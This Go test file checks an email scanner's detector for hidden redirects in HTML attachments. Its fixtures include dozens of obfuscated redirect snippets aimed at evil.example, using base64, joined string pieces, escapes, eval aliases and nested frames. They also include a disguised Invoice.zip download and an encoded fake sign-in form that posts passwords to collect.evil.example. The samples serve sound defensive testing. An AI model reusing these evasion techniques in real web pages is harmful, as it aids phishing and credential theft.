package links

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/firstsight/firstsight/internal/lineartest"
)

// TestHiddenRedirect: an attached page's script that navigates to an
// address it decodes or assembles from pieces, or offers a file it builds
// from decoded data, marks the message (Extracted.HiddenRedirect), packed
// in a zip too; a page whose script reads its location, navigates to an
// address written in clear, or decodes something far from where it
// navigates does not, nor does the message's own HTML body.
func TestHiddenRedirect(t *testing.T) {
	pad := strings.Repeat("var x=1;", 80) // 640 bytes: past navWindow
	for _, tc := range []struct {
		name, page string
		hidden     bool
	}{
		{"atob into location.href", `<script>var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');window.location.href=u;</script>`, true},
		{"atob into location =", `<script>location = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")</script>`, true},
		{"fromCharCode into replace", `<script>document.location.replace(String.fromCharCode(104,116,116,112,115))</script>`, true},
		{"pieces into replace", `<script>var a='ht'+'tps:'+'//';var b='evil'+'.exa'+'mple';location.replace(a+b)</script>`, true},
		{"pieces across lines", "<script>var a=\"ht\" +\n \"tps://evil.example\";top.location.assign(a)</script>", true},
		{"unescape into window.open", `<script>window.open(unescape('%68%74%74%70%73'))</script>`, true},
		{"a blob download of decoded data", `<script>var d=atob('UEsDBA==');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='Invoice.zip';a.click()</script>`, true},
		{"in an event handler", `<body onload="location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')"></body>`, true},
		{"upper case", `<SCRIPT>Window.Location.Href = ATOB('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')</SCRIPT>`, true},
		{"an address in clear", `<script>window.location.href='https://shop.example/cart';</script>`, false},
		{"a comparison, not an assignment", `<script>var p=('https:'==document.location.protocol?'https://ssl':'http://www');var s=atob('eA==')</script>`, false},
		{"location compared with ==", `<script>if(location.href=='x'){} var y=atob('eA==')</script>`, false},
		{"a decoder far from the navigation", `<script>var y=decodeURIComponent(q);` + pad + `location.href='/next'</script>`, false},
		{"joined text that makes no address", `<script>var m='Hello '+'world';location.href='/next'</script>`, false},
		{"pieces outside any script", `<p>'ht'+'tps://' location.href=x</p>`, false},
		{"no navigation", `<script>var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');console.log(u)</script>`, false},
		{"a search box going to its own site", `<script>var q=decodeURIComponent(location.search.slice(1)); if(q) window.location.href="/search?q="+q</script>`, false},
		{"a relative replace and open", `<script>var q=atob(x);location.replace('./next?'+q);window.open("?page="+q)</script>`, false},
		{"protocol-relative is another site", `<script>var q=atob(x);location.href="//evil.example/"+q</script>`, true},
		{"a decoded query for another site", `<script>var q=atob(x);location.href="https://evil.example/?"+q</script>`, true},
		{"eval of decoded script that navigates", `<script>eval(atob("d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=="))</script>`, true},
		{"Function of decoded script", `<script>Function(atob('d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=='))()</script>`, true},
		{"setTimeout of decoded script", `<script>setTimeout(atob("d2luZG93LmxvY2F0aW9uLmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=="), 10)</script>`, true},
		{"document.write of a decoded refresh", `<script>document.write(atob('PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4='))</script>`, true},
		{"eval of a decoded variable", `<script>var k=document.getElementById('d').textContent;eval(atob(k))</script>`, true},
		{"eval of decoded script that does not navigate", `<script>eval(atob("Y29uc29sZS5sb2coJ2xvYWRlZCcp"))</script>`, false},
		{"pieces joined with join", `<script>var u=['ht','tps:','//evil','.example'].join('');location.href=u</script>`, true},
		{"pieces joined with concat", `<script>var u='ht'.concat('tps://','evil.example');window.location.replace(u)</script>`, true},
		{"x escapes in a string", `<script>location.href="\x68\x74\x74\x70\x73://evil.example/"</script>`, true},
		{"u escapes in a string", `<script>window.location = '\u0068ttps://evil.example/'</script>`, true},
		{"an escaped location name", `<script>window['\x6cocation']='https://evil.example/'</script>`, true},
		{"location['href'] of a decoded address", `<script>var u=atob(x);location['href'] = u</script>`, true},
		{"window[\"location\"] of a decoded address", `<script>window["location"] = atob(x)</script>`, true},
		{"document['location'] of a decoded address", `<script>document['location'] = unescape(x)</script>`, true},
		{"top.location of a decoded address", `<script>top.location = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")</script>`, true},
		{"self.location.href of pieces", `<script>self.location.href = 'ht' + 'tps://evil.example/'</script>`, true},
		{"parent.location.replace of a decoded address", `<script>parent.location.replace(atob(x))</script>`, true},
		{"a built anchor clicked", `<script>var a=document.createElement('a');a.href=atob(x);document.body.appendChild(a);a.click()</script>`, true},
		{"a built anchor downloading a written payload", `<script>var a=document.createElement('a');a.href='data:application/zip;base64,UEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIAUEsDBBQAAAAIA';a.download='Invoice.zip';document.body.appendChild(a);a.click()</script>`, true},
		{"a refresh written with a decoded target", `<script>document.write('<meta http-equiv="refresh" content="0;url=' + atob(x) + '">')</script>`, true},
		{"a refresh to a data: URL", `<html><head><meta http-equiv="refresh" content="0; url=data:text/html;base64,PGgxPmhpPC9oMT4="></head></html>`, true},
		{"a refresh to a javascript: URL, quoted", `<meta http-equiv="Refresh" content="1;URL='JavaScript:go()'">`, true},
		{"a refresh to a web address", `<meta http-equiv="refresh" content="0;url=https://shop.example/new">`, false},
		{"a saved page with analytics", `<script>var _gaq=_gaq||[];_gaq.push(['_setAccount','UA-1-1']);(function(){var ga=document.createElement('script');ga.async=true;ga.src=('https:'==document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(ga,s)})();</script>`, false},
		{"a page reading location.protocol", `<script>if(window.location.protocol!=='https:'){var h=location['hostname'];console.log(decodeURIComponent(h))}</script>`, false},
		{"a jQuery-like bundle", `<script>(function(w){var r=/%20/g;function p(s){return decodeURIComponent(s.replace(r," "))}var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;var x=1;w.nav=function(u){var a=document.createElement("a");a.href=u;a.target="_blank";document.body.appendChild(a);a.click();};w.parts=["a","b"].join("");})(window)</script>`, false},
		{"a CSV export", `<script>var a=document.createElement('a');a.href='data:text/csv;base64,'+btoa(csv);a.download='report.csv';a.click()</script>`, false},
		{"an anchor set but never clicked", `<script>var q=atob(x);var a=document.getElementById('l');a.href='https://shop.example/'</script>`, false},
		{"a serialized state's escaped slashes near a navigation", `<script>window.__NUXT__={config:{public:{apiBase:"https:\u002F\u002Fapi.shop.example\u002Fv1"}},state:{user:null}};if(!window.__NUXT__.state.user){window.location.href=window.__NUXT__.config.public.apiBase+"\u002Flogin"}</script>`, false},
		{"a web-mail page's x-escaped punctuation near a navigation", `<script>var _GM_setData=function(d){window.location.href=d.u};_GM_setData({u:"https:\x2F\x2Fmail.example.com\x2Fmail\x2Fu\x2F0\x2F?ui\x3d2\x26view\x3dcv"});</script>`, false},
		{"an escaped scheme colon", `<script>location.href="https\x3a//evil.example/"</script>`, true},
		{"a srcdoc frame's script sending its top window", `<iframe style="border:0;width:100%" srcdoc="<script>top.location.href=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv')</script>"></iframe>`, true},
		{"a base64 data: frame's decoded navigation", `<iframe src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(`<script>location.replace('ht'+'tps://evil.example/')</script>`)) + `"></iframe>`, true},
		{"a data: object's refresh to a data: URL", `<object data="data:text/html,%3Cmeta%20http-equiv%3Drefresh%20content%3D%220%3Burl%3Ddata%3Atext%2Fhtml%3Bbase64%2CPGgxPg%3D%3D%22%3E"></object>`, true},
		{"frames in frames", `<iframe srcdoc="<iframe srcdoc=&quot;<script>window.open(unescape('%68%74%74%70%73'))</script>&quot;></iframe>"></iframe>`, true},
		{"a srcdoc frame navigating in clear", `<iframe srcdoc="<script>location.href='https://shop.example/'</script><p>Hello</p>"></iframe>`, false},
		{"a data: frame of a plain page", `<iframe src="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(`<p>Your statement is ready.</p><a href="https://bank.example/">Sign in</a>`)) + `"></iframe>`, false},
		{"eval of decoded pieces joined with +", `<script>eval(atob('d2luZG93LmxvY2F0aW9u' +
 "LmhyZWY9J2h0dHBzOi8vZXZpbC5leGFtcGxlL2xvZ2luJw=="))</script>`, true},
		{"the old analytics snippet writing an unescaped tag", `<script type="text/javascript">var gaJsHost = (("https:" == document.location.protocol) ? "https://ssl." : "http://www.");document.write(unescape("%3Cscript src='" + gaJsHost + "google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E"));</script>`, false},
		{"a function whose name ends in eval, of a decoded value", `<script>var r=retrieval(atob(k));stream.overwrite(unescape(v));</script>`, false},
		{"window.eval of a decoded value", `<script>window.eval(atob(k))</script>`, true},
		{"escapes that spell no address", `<script>var m='caf\u00e9';location.href='https://shop.example/'</script>`, false},
		{"indirect eval of a decoded value", `<script>var k=document.body.dataset.k;(0,eval)(atob(k))</script>`, true},
		{"eval.call of a decoded value", `<script>eval.call(null, atob(k))</script>`, true},
		{"eval.apply of a decoded value", `<script>eval.apply(this,[atob(k)])</script>`, true},
		{"self['eval'] of a decoded value", `<script>self['eval'](atob(k))</script>`, true},
		{"an eval held in a variable", `<script>var e = eval; e(atob(x))</script>`, true},
		{"an eval spelled in pieces and held", `<script>const f = window["ev"+"al"];f(decodeURIComponent(escape(atob(p))))</script>`, true},
		{"a Function held in a variable", `<script>var F=self.Function;F(atob(k))()</script>`, true},
		{"a function declared, not an alias", `<script>var f = function (s) { return s.trim() }; f(atob(k))</script>`, false},
		{"an envelope viewer writing what it decrypts", `<script>var payload=document.getElementById('msg').textContent;document.write(decodeURIComponent(escape(atob(payload))))</script>`, false},
		{"an envelope viewer writing a written message", `<script>var payload="PGgxPlNlY3VyZSBtZXNzYWdlPC9oMT48cD5IZWxsbzwvcD4=";document.write(decodeURIComponent(escape(atob(payload))))</script>`, false},
		{"a written message that redirects", `<script>var payload="PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=";document.write(decodeURIComponent(escape(atob(payload))))</script>`, true},
		{"a decoded token beside a configured sign-in", `<script>var cfg=window.APP_CONFIG;var claims=JSON.parse(atob(token.split('.')[1]));if(claims.exp<Date.now()/1000){location.href = cfg.loginUrl}</script>`, false},
		{"a decoded config's sign-in address", `<script>var cfg=JSON.parse(atob(token));location.href = cfg.loginUrl</script>`, true},
		{"a decoded address through two names", `<script>var d=atob(k);var u=d.trim();window.location.href=u</script>`, true},
		{"a decoded address a function returns", `<script>function dest(){return atob(k)}window.location.href=dest()</script>`, true},
		{"a decoded address an arrow function returns", `<script>const dest = () => { return decodeURIComponent(escape(atob(k))) };location.replace(dest())</script>`, true},
		{"a function returning a decoded token beside a configured navigation", `<script>function claims(){return JSON.parse(atob(t))}if(!claims().ok){location.href=cfg.loginUrl}</script>`, false},
		{"an inlined worker", `<script>var code='c2VsZi5vbm1lc3NhZ2U9ZnVuY3Rpb24oZSl7cG9zdE1lc3NhZ2UoZS5kYXRhKjIpfQ==';var w=new Worker(URL.createObjectURL(new Blob([atob(code)],{type:'text/javascript'})));w.postMessage(2)</script>`, false},
		{"an inlined worker through a name", `<script>var b=new Blob([atob(code)],{type:'text/javascript'});var u=URL.createObjectURL(b);var w=new Worker(u)</script>`, false},
		{"a decoded blob's address opened", `<script>var b=new Blob([atob(code)],{type:'text/html'});var u=URL.createObjectURL(b);window.open(u)</script>`, true},
		{"a decoded address in an object's field", `<script>var cfg = {
  delay: 0,
  target: atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=")
};
setTimeout(function(){ window.location.replace(cfg.target) }, cfg.delay);</script>`, true},
		{"a decoded address destructured", `<script>const {url}=JSON.parse(atob(cfg));location.href=url</script>`, true},
		{"a decoded address destructured from an array", `<script>const [a,b]=atob(x).split('|');window.location=b</script>`, true},
		{"a decoded address in a property", `<script>var c={};c.dest=atob(x);location.href=c.dest</script>`, true},
		{"a decoded address in a global", `<script>window.dest=atob(x);location.href=dest</script>`, true},
		{"an element of an array, not a pattern", `<script>a[i]=atob(t);location.href=cfg.u</script>`, false},
		{"a decoded address given to a function", `<script>function go(t){window.location.href=t}go(atob(x))</script>`, true},
		{"a decoded address given to an arrow function", `<script>const go=(t)=>{location.href=t};go(atob(x))</script>`, true},
		{"a function given a configured address", `<script>function go(t){window.location.href=t}var c=JSON.parse(atob(k));go(cfg.loginUrl)</script>`, false},
		{"a callback of a fetch of a decoded address", `<script>fetch(atob(x)).then(r=>r.json()).then(d=>{window.location.href=d.url})</script>`, true},
		{"a callback of a fetch of a decoded address, functions", `<script>fetch(atob(x)).then(function(r){return r.text()}).then(function(t){location.replace(t)})</script>`, true},
		{"a callback of a configured fetch beside a decoded token", `<script>var c=JSON.parse(atob(t));fetch(cfg.api).then(r=>r.json()).then(d=>{location.href=d.url})</script>`, false},
		{"a sign-in page written from a name", `<script>var p='PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PC9mb3JtPjwvYm9keT48L2h0bWw+';document.write(atob(p))</script>`, true},
		{"a sign-in page written from a literal", `<script>document.write(atob("PGh0bWw+PGJvZHk+PGZvcm0gYWN0aW9uPSJodHRwczovL2NvbGxlY3QuZXZpbC5leGFtcGxlL3AiIG1ldGhvZD0icG9zdCI+PGlucHV0IG5hbWU9InUiPjxpbnB1dCB0eXBlPSJwYXNzd29yZCIgbmFtZT0icCI+PC9mb3JtPjwvYm9keT48L2h0bWw+"))</script>`, true},
		{"a redirect written from joined pieces", `<script>var p=['PG1ldGEgaHR0cC1lcXVp','dj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4='].join('');document.write(atob(p))</script>`, true},
		{"a redirect written from a hidden element", `<div id="d" hidden>PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cHM6Ly9ldmlsLmV4YW1wbGUvIj4=</div><script>document.write(atob(document.getElementById('d').textContent))</script>`, true},
		{"an envelope viewer writing a message from an element", `<div id="msg" hidden>PGgxPlNlY3VyZSBtZXNzYWdlPC9oMT48cD5IZWxsbzwvcD4=</div><script>document.write(decodeURIComponent(escape(atob(document.getElementById('msg').textContent))))</script>`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := hiddenRedirect([]byte(tc.page)); got != tc.hidden {
				t.Errorf("hiddenRedirect = %v, want %v", got, tc.hidden)
			}
		})
	}
	const page = `<html><script>var u=atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');window.location.href=u;</script></html>`
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	fw, _ := zw.Create("Remittance.htm")
	fw.Write([]byte(page))
	zw.Close()
	for _, tc := range []struct {
		name, header string
		data         []byte
		hidden       bool
	}{
		{"an attached page", "Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"Remittance.shtml\"", []byte(page), true},
		{"a page in an attached zip", "Content-Type: application/zip; name=\"Remittance.zip\"", zb.Bytes(), true},
		{"the message's own HTML body", "Content-Type: text/html; charset=utf-8", []byte(page), false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			msg := []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
				"--b\r\n" + tc.header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString(tc.data) + "\r\n--b--\r\n")
			x, err := ExtractAll(msg, Options{})
			if err != nil || x.HiddenRedirect != tc.hidden {
				t.Errorf("HiddenRedirect = %v (%v), want %v", x.HiddenRedirect, err, tc.hidden)
			}
		})
	}
}

// TestHiddenRedirectLinear: a script of many navigations, decoders,
// escapes, bracket names, anchors and written refreshes costs no more
// than a bounded number of windows and decodings: four times the script
// costs at most ten times as much.
func TestHiddenRedirectLinear(t *testing.T) {
	doc := []byte("<script>" + strings.Repeat("location.href==x;location ", 100000) + "</script>")
	if hiddenRedirect(doc) {
		t.Fatal("comparisons read as a hidden redirect")
	}
	long := strings.Repeat("QUFB", 250)
	for _, unit := range []string{
		"location.href==x;location ",
		"eval(atob('" + long + "'));",
		"eval(atob('QUFB",
		"var s='\\x41\\u0042\\u{43}';a['b']=c[\"d\"];",
		"a.href=x;a.href='/y';",
		"a.href=x;a.click();" + strings.Repeat(" ", 400),
		"http-equiv=\"x\" ",
		"'a'+'b','c'.concat('d').join('');",
		"eval(   " + strings.Repeat(" ", 100),
		"eval(atob('QUFB'+'QUFB' + 'QUFB'+",
		"eval(atob('" + long + "'+'" + long + "'));",
		"var e=eval;e(atob(x));(0,eval)(atob(k));eval.call(null,atob(k));",
		"document.write(decodeURIComponent(escape(atob(p))));p=",
		"var p='" + long + "';document.write(atob(p));",
		"new Worker(URL.createObjectURL(b));var u=URL.createObjectURL(c);",
		"var d=atob(k);var u=d.x;location.href=cfg.u;",
		"w=window['ev'+'al'];f=function;",
		"var c={u:atob(k)};const {a,b}=atob(k);[x,y]=z;c.d=atob(k);location.href=c.d;",
		"function go(t){location.href=t}go(atob(k));go(",
		"fetch(atob(x)).then(r=>r.json()).then(d=>{location.href=d.u});",
		"(((((((((function(a,b,c){location.href=a}",
		"document.write(atob(document.getElementById('d').textContent));<i id=d>",
		"var p=['QUFB','QUFB'].join('');document.write(atob(p));",
		"<iframe id=v name=n></iframe>fs[1].src=u;v.src=u;window.v.src=u;document.getElementsByName('n')[0].src=u;",
		"var s=document.createElement('script');var k='" + base64.StdEncoding.EncodeToString([]byte(`{"a":"`+strings.Repeat("x", 1400)+`","u":"/a.js"}`)) + "';var c=JSON.parse(atob(k));s.src=JSON.parse(atob(k)).u;s.src=c[i];s.src=c.u;",
		"s.src=JSON.parse(atob('" + long,
		"var s=document.createElement('script');s.src=JSON.parse(atob('" + base64.StdEncoding.EncodeToString([]byte("{\"u\":\"\\u0001ht\\ttps:\\\\x\",\"v\":[[[[[[[[[[1]]]]]]]]]]}")) + "')).u.split('').reverse().join('');var c=JSON.parse(atob(k));s.src=c?.['u'];s.src=c[i];",
		"<iframe>Object.assign(x,{a:[{b:(id " + strings.Repeat(" ", 300) + "setAttributeNS(" + strings.Repeat(" ", 80) + "$(x).attr({ idle , " + strings.Repeat(" ", 100),
		"<iframe id=f name=n></iframe>$('#f').eq(1).first().attr({src:(x, " + strings.Repeat("{", 100) + "document.all.f.src=u;document.all('n').src=u;var e=$('#f');$(e).prop('src',u);e.attr('src',u);",
		"open(u);self.open(u);xhr.open(u);open(u){}location.assign.call(location, u);open.apply(null,[u]);Reflect.set(location,'href',u);Reflect.set(x, 'y' ,",
		"<iframe>Object.assign(document.createElement('iframe'),{src:u});var f=x;Object.assign(f,{a:[(" + strings.Repeat(",", 50) + "open.call((" + strings.Repeat(" ", 60),
		"<iframe id=f></iframe>x.id   ;x['id']  =y;x.id==z;document.getElementById(''+'f').src=u;document.getElementById(`f${x}`).src=u;",
		"<iframe id=f></iframe>Object.assign(document.createElement('iframe'),{t:'(,\"}', src:u});$('#f').attr({title:'}', src:(`" + strings.Repeat(" ", 60),
		"<iframe id=f></iframe>document.all.item('f').src=u;$(document.all.namedItem('f')).attr('src',u);document.all.namedItem(\"" + strings.Repeat(")", 30),
		"Reflect.apply(eval,window,['" + strings.Repeat("[", 40) + "Reflect.set(location, 'href', '" + strings.Repeat(" ", 40),
		"location.assign.bind(location)(u);open .call(window,u);location.assign   .bind((" + strings.Repeat("'", 3) + "Object.assign(f,{a:1}, {b:'}'},x,{c:(" + strings.Repeat(",", 20),
		"<iframe id=f></iframe>Object.assign(document.createElement('iframe'),{t:'a\\'', u:1, v:'\\'',",
		"Object.assign(f,{a:1},{b:'x\\''},{c:(1)},{d:[,]},{src:",
		"$('#f').attr({title: '\\'', src: /'/.source, t: `${'`'}`, ",
		"Object.assign(document.createElement('iframe'),{t:/'/,a:1,b:2,c:3,d:4,e:5,f:6,g:7,h:8,i:9," + strings.Repeat("\\", 40),
		"location.assign .bind(location)(location.assign.bind(   window.open. call(window, window.open\t\t.apply( call call  (callback . bind ",
		"Reflect.apply(eval, window, ['\\''Reflect.set(location, '",
		"document.all.item(document.all.namedItem(document.all.item('",
	} {
		small := []byte("<script>" + strings.Repeat(unit, 2000) + "</script>")
		big := []byte("<script>" + strings.Repeat(unit, 8000) + "</script>")
		lineartest.Check(t, fmt.Sprintf("hiddenRedirect(%.20q x n)", unit), func() { hiddenRedirect(small) }, func() { hiddenRedirect(big) })
	}
	for _, unit := range []string{ // frames in frames, each level read
		`<iframe srcdoc="<iframe srcdoc=&quot;<iframe srcdoc=&amp;quot;<script>location.href==x</script>&amp;quot;></iframe>&quot;></iframe>"></iframe>`,
		`<iframe src="data:text/html,%3Ciframe%20src=%22data:text/html,%253Cscript%253Elocation.href==x%253C/script%253E%22%3E"></iframe>`,
		`<object data="data:text/html;base64,` + base64.StdEncoding.EncodeToString([]byte(`<iframe srcdoc="<script>eval(atob('QUFB'))</script>"></iframe>`)) + `"></object>`,
	} {
		small := []byte(strings.Repeat(unit, 2000))
		big := []byte(strings.Repeat(unit, 8000))
		lineartest.Check(t, fmt.Sprintf("hiddenRedirect(%.20q x n)", unit), func() { hiddenRedirect(small) }, func() { hiddenRedirect(big) })
	}
}

// FuzzHiddenRedirect: hiddenRedirect never fails, and finds a hidden
// redirect only where the document names a navigation, or could spell
// one with escapes, character references or a decoded string.
func FuzzHiddenRedirect(f *testing.F) {
	f.Add([]byte(`<script>location.href=atob('aHR0cHM6')</script>`))
	f.Add([]byte("<iframe id=f></iframe><script>x.id='b';document.getElementById(''+'f').src=atob(k);document.getElementById(`f${x}`).src=u;var c=JSON.parse(atob('eyJ1IjoiaHR0cHM6XFxcXGUifQ=='));var s=document.createElement('script');s.src=c?.[\"u\"].split('').reverse().join('');s.src=c.u</script>"))
	f.Add([]byte(`<script>var a='ht'+'tps://';location.replace(a)</script>`))
	f.Add([]byte(`<body onload="window.open(unescape('%68'))">`))
	f.Add([]byte(`<script>var cfg=JSON.parse(decodeURIComponent(d));var u=unescape(k);var s=document.createElement('script');s.src=cfg.src;s.src=u;s.src= atob(v) ;s.setAttribute("src",u)</script>`))
	f.Add([]byte(`<script>eval(atob("bG9jYXRpb24uaHJlZj0neCc="));window['\x6cocation']=['h','t'].join('')</script>`))
	f.Add([]byte(`<meta http-equiv=refresh content="0;url=data:text/html,x"><script>a.href=atob(x);a.click();document.write('<meta http-equiv="refresh" content="0;url='+u)</script>`))
	f.Add([]byte(`<script>var s=document.createElement('script');s.src=atob(k);var t=document.createElement("scr` + "`" + `);t.setAttribute('src',u);a.href=atob(x);a.dispatchEvent(new MouseEvent('click'))</script>`))
	f.Add([]byte(`<iframe srcdoc="<script>top.location=atob('aA==')</script>"></iframe><object data="data:text/html;base64,PHNjcmlwdD5sb2NhdGlvbj11PC9zY3JpcHQ+"></object>`))
	f.Add([]byte(`<script>var s=atob(x);eval(s);var h=atob('PGZvcm0+');el.innerHTML=h;f.setAttribute('action',s);Object.assign(location,{href:s});self['ev'+'al'](s);globalThis[atob('ZXZhbA==')](s);var p='';p+='PGE+';document.write(atob(p))</script>`))
	f.Add([]byte("<script>// don't\nvar r=s.replace(/[\"'`]/g,'');/* it's */var q=decodeURIComponent(new URLSearchParams(location.search).get('n')||'');var d=atob(localStorage.getItem('k')||k);a.setAttribute('href',d);a.click();navigation.navigate(q)</script>"))
	f.Add([]byte(`<iframe id=f></iframe><script>var f=document.createElement('iframe');f.src=atob(x);document.getElementById('f').setAttribute('src',"moc.tset.live//:sptth".split('').reverse().join(''))</script>`))
	f.Add([]byte(`<iframe name=n id=v></iframe><iframe><script>var fs=document.querySelectorAll('iframe');fs[1].src=atob(k);v.src=atob(k);window.v.src=u;document.getElementsByName('n')[0].src=atob(k);document.getElementsByTagName("iframe")[0].src=atob(k)</script>`))
	f.Add([]byte(`<script>var k="eyJ1IjoiaHR0cHM6Ly9lLmV4YW1wbGUvIiwiYSI6WzEseyJiIjoiLy94In1dfQ==";var c=JSON.parse(atob(k));var s=document.createElement('script');s.src=JSON.parse(atob(k)).u;s.src=c.a[1].b;s.src=c[i];s.setAttribute('src',JSON.parse(decodeURIComponent('%22%2F%2Fx%22')));s.src=c?.u.trim()</script>`))
	f.Add([]byte(`<IFRAME ID=A></IFRAME><img id=b><frameset id=c><frame id="d" src=x><iframe id=e width=0<script>var i=document.getElementById('b');i.src=atob(k);document.querySelector('#a').src=atob(k);document.querySelector("#d .x").src=atob(k);document.getElementById(n).src=u</script><iframe id="`))
	f.Add([]byte(`<iframe id=f name=n></iframe><script>$('#f').attr('src',atob(k));jQuery("iframe").first().prop({width:0,'src':u});var e=document.all.namedItem('n');$(e).eq(0).attr("src",atob(k));document.all.f.src=u;document.all['n'].setAttribute('src',u);Object.assign(x,{id});x.setAttribute('ID','b')</script>`))
	f.Add([]byte(`<script>open(atob(k));self.open(u);location.assign.call(location,atob(k));window.open.apply(window,[u,'_top']);Reflect.set(window,'location',atob(k));document.body.append(Object.assign(document.createElement('iframe'),{src:atob(k)}));class A{open(u){}}</script>`))
	f.Add([]byte(`<script>var r='nigol/tset.live//:sptth';var u=Array.from(r).reverse().join('');location.replace([...'x'].reverse().join(''));localStorage.setItem('h','evil.test');location.href=localStorage.getItem('h');Reflect.apply(eval,null,[atob(k)])</script>`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		low := bytes.ToLower(doc)
		possible := false
		for _, w := range []string{"location", "open(", "createobjecturl(", "navigation.navigate(", ".href", "setattribute(", "http-equiv", "refresh", "atob(", "unescape(", "decodeuricomponent(", "fromcharcode(", "src", ".attr(", ".prop(", ".reverse()", "\\", "&"} {
			possible = possible || bytes.Contains(low, []byte(w))
		}
		// a data: frame's document may be spelled in base64 (its URL read
		// without tabs and line breaks)
		possible = possible || bytes.Contains(bytes.Map(func(r rune) rune {
			if r == '\t' || r == '\n' || r == '\r' {
				return -1
			}
			return r
		}, low), []byte("data:"))
		if hiddenRedirect(doc) && !possible {
			t.Fatalf("hidden redirect without any navigation in %q", doc)
		}
	})
}

// TestLowerBytes: lowerBytes, eight bytes at a time, is lower of each
// byte at the same offset: every byte value at every position of a word
// and in the tail after the last whole word, the bytes around A and Z,
// and bytes of 0x80 or above whose low seven bits are a capital.
func TestLowerBytes(t *testing.T) {
	all := make([]byte, 256)
	for i := range all {
		all[i] = byte(i)
	}
	type lowerCase struct {
		name string
		in   []byte
	}
	var shifted []lowerCase // every byte value in every lane of a word
	for k := 1; k < 8; k++ {
		shifted = append(shifted, lowerCase{fmt.Sprintf("every byte, shifted by %d", k), append(bytes.Repeat([]byte("Q"), k), all...)})
	}
	for _, tc := range append([]lowerCase{
		{"empty", nil},
		{"short", []byte("AbZ")},
		{"a word", []byte("HTTPS://")},
		{"a word and a tail", []byte("LOCATION.HREF")},
		{"around A and Z", []byte("@AZ[`az{\x00\x7f@AZ[`az{")},
		{"high bytes with a capital's low bits", []byte("\xc1\xc2\xda\xdb\xc0\xe1\xfa\xffABC")},
		{"broken UTF-8", []byte("\xe2\x82Caf\xc3\x89\xff\xfeXYZw")},
		{"every byte", all},
	}, shifted...) {
		got := lowerBytes(tc.in)
		if len(got) != len(tc.in) {
			t.Fatalf("%s: %d bytes, want %d", tc.name, len(got), len(tc.in))
		}
		for i, c := range tc.in {
			if got[i] != lower(c) {
				t.Errorf("%s: byte %d is %#x, want %#x (from %#x)", tc.name, i, got[i], lower(c), c)
			}
		}
	}
}
